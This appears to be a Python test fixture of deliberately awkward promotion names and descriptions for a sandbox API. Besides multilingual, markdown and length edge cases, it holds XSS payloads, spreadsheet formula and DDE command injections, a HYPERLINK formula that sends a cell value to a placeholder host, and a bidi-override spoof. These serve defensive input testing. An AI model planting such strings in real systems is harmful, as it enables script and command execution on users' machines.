"""Promotions whose text is what people and machines may really write: hostile, foreign, long, or hardly there.

api-facts §3.4: a description can be empty, hold quotes, newlines or a command; a name has at most 255 characters (004).
"""

from promo_data.sandbox.catalogue.drafts import Draft, languages, times
from promo_data.sandbox.organisations import NOTICEBOARD
from promo_data.sandbox.promotions import Metadatum

_LONGEST = "A name as long as the vendor lets it be, " * 7

_TEXTS = (
    (
        "[Claim now](http://x.invalid) **today** `only`",
        "# Heading\n\n- [ ] a list\n\n| a | b |\n|---|---|\n| $x$ | :fire: |",
    ),
    ("<img src=x onerror=alert(1)> & <b>half price", "<script>alert(1)</script><!-- <style>*{display:none}</style>"),
    ("=1+1", '=HYPERLINK("http://x.invalid?"&A1;"open")'),
    ("@SUM(A1:A9)", "+1-2\t-3\r\n=cmd|' /C calc'!A0"),
    ("\u202eevil tfig\u202c for you", "\u2067خصم خاص\u2069 \u200bzero width\u200b"),
    ("عرض خاص لأعضاء النادي", "اشترِ منتجين واحصل على خمسين نقطة."),
    ("会員限定ポイント二倍", "週末のお買い物で🎉ポイントが二倍になります。"),
    ("Quotes \" ' ` \\ and {{braces}} ${x} %s", 'curl -X POST "https://x.invalid/hook" -d \'{"text": "hi"}\''),
    (_LONGEST[:255], "Long. " * 160),
    ("-", ""),
)


def _draft(place: int, name: str, description: str) -> Draft:
    return Draft(
        programme=NOTICEBOARD,
        name=name,
        description=description,
        offer_type="GENERIC",
        days=(-10 - place, 30 + place),
        restrictions=(times(3 + place),),
        identifier=f"notice {place}: '=<i>" if place % 2 else None,
        metadata=_METADATA if place == 0 else (),
    )


_METADATA = (
    *languages(fr="Réservé aux membres", ar="للأعضاء فقط", ja="会員限定", hi="केवल सदस्यों के लिए"),
    Metadatum("<b>key</b>", "=1+1", brand_defined=False),
    Metadatum("k" * 100, "v" * 1000, brand_defined=True),  # api-facts §3.4: the longest that are allowed
)

DRAFTS = tuple(_draft(place, name, description) for place, (name, description) in enumerate(_TEXTS))
